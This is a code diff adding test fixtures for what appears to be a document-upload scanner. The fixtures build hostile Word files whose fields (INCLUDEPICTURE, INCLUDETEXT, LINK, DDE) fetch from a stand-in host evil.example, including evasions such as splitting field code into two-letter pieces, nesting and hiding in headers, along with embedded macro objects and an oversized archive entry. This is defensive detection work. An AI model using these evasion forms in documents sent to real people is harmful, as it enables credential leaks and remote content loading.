@@ -93,6 +93,83 @@ async function writtenPdfs(): Promise<HostileDocument[]> {
   )
 }
 
+const run = (content: string): string => `<w:r>${content}</w:r>`
+const mark = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`)
+const instructed = (text: string, name = 'instrText'): string => run(`<w:${name}>${text}</w:${name}>`)
+/** A field whose instruction is in pieces of two letters. */
+const inPieces = (instruction: string): string =>
+  mark('begin') +
+  (instruction.match(/..?/g) ?? []).map((piece) => instructed(piece.replaceAll('"', '&quot;'))).join('') +
+  mark('separate') +
+  run('<w:t>shown</w:t>') +
+  mark('end')
+
+/** Fields that fetch something, in each form and place that Word reads them in. */
+function wordFields(): HostileDocument[] {
+  const share = String.raw`\\\\evil.example\\share\\a`
+  const fields: [string, string][] = [
+    [`INCLUDEPICTURE "${share}.png" \\d`, 'on a network drive'],
+    [`includepicture \\d “${share}.png”`, 'on a network drive'],
+    [`HYPERLINK "${share}.docx"`, 'on a network drive'],
+    [`INCLUDETEXT "${share}.docx"`, 'from elsewhere'],
+    ['INCLUDETEXT "https://evil.example/a.docx"', 'from elsewhere'],
+    ['INCLUDETEXT a.docx', 'from elsewhere'],
+    [`LINK Excel.Sheet.12 "${share}.xlsx" "Sheet1!R1C1" \\a`, 'from elsewhere'],
+    ['DATABASE \\d "C:\\\\a.mdb" \\c "DSN=a" \\s "select 1"', 'from elsewhere'],
+    ['RD "a.docx"', 'from elsewhere'],
+    ['DDE excel "a.xls" R1C1', 'contains macros'],
+  ]
+  const part = (title: string, says: string, name: string, type: string, content: string): HostileDocument =>
+    docx(title, says, [
+      ...docxParts(),
+      { name: 'word/_rels/document.xml.rels', data: relationships({ type, target: name }) },
+      { name: `word/${name}`, data: wordDocument(content) },
+    ])
+  return [
+    ...fields.flatMap(([instruction, says]) => [
+      documentOf(`${instruction} as a simple field`, says, `<w:fldSimple w:dirty="true" w:instr=" ${instruction.replaceAll('"', '&quot;')}"/>`),
+      documentOf(`${instruction} in pieces`, says, inPieces(instruction)),
+      {
+        title: `DOC: ${instruction}`,
+        name: 'resume.doc',
+        data: makeDoc({ text: `\u0013 ${instruction.replaceAll(/[“”]/g, '\u0093')} \u0014shown\u0015` }),
+        says,
+      },
+      {
+        title: `DOC: ${instruction} in UTF-16`,
+        name: 'resume.doc',
+        data: makeDoc({ text: Buffer.from(`\u0013 ${instruction} \u0014shown\u0015`, 'utf16le').toString('latin1') }),
+        says,
+      },
+    ]),
+    documentOf('a field without an end', 'from elsewhere', mark('begin') + instructed('INCLUDETEXT a.docx')),
+    documentOf('a field that was deleted', 'from elsewhere', mark('begin') + instructed('INCLUDETEXT a', 'delInstrText') + mark('end')),
+    documentOf(
+      'a field inside of another one',
+      'from elsewhere',
+      mark('begin') + instructed('IF 1 = 1 "') + inPieces('INCLUDETEXT a.docx') + instructed('"') + mark('end'),
+    ),
+    documentOf(
+      'a field in what another one shows',
+      'from elsewhere',
+      mark('begin') + instructed('PAGE') + mark('separate') + inPieces('INCLUDETEXT a.docx') + mark('end'),
+    ),
+    documentOf(
+      'a picture whose address another field makes',
+      'from elsewhere',
+      mark('begin') + instructed('INCLUDEPICTURE "') + inPieces('QUOTE 92 92') + instructed('evil/a.png"') + mark('end'),
+    ),
+    documentOf(
+      'a field whose name another field makes',
+      'from elsewhere',
+      mark('begin') + inPieces('QUOTE "INCLUDE"') + instructed('TEXT a.docx') + mark('end'),
+    ),
+    ...['header', 'footer', 'footnotes', 'endnotes', 'comments', 'glossaryDocument'].map((type) =>
+      part(`a field in a part that is called ${type}`, 'from elsewhere', `${type}.dat`, type, inPieces('INCLUDETEXT a.docx')),
+    ),
+  ]
+}
+
 /** Small files each of whose places leads through the rest of the file: the work must not grow with the square. */
 function endless(): HostileDocument[] {
   const objects = (title: string, content: string): HostileDocument =>
@@ -297,6 +374,21 @@ export async function hostileDocuments(): Promise<HostileDocument[]> {
       'contains macros',
       '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E&#65;UTO x</w:instrText></w:r>',
     ),
+    ...wordFields(),
+    docxWith('another program in an object, its name in capitals', 'contains macros', {
+      name: 'word/embeddings/oleObject1.bin',
+      data: makeDoc({ extraEntries: ['\u0001OLE10NATIVE'] }),
+    }),
+    docxWith('macros in an object, their name in small letters', 'contains macros', {
+      name: 'word/embeddings/oleObject1.bin',
+      data: makeDoc({ extraEntries: ['_vba_project'] }),
+    }),
+    {
+      title: 'DOCX: a password',
+      name: 'resume.docx',
+      data: makeDoc({ wordName: 'EncryptionInfo', extraEntries: ['EncryptedPackage'] }),
+      says: 'is password protected',
+    },
     docxWith('90 MB that say to be 1,000 bytes', 'unpacks to far more', {
       name: 'word/media/a.bin',
       data: Buffer.alloc(90 * 1024 * 1024),
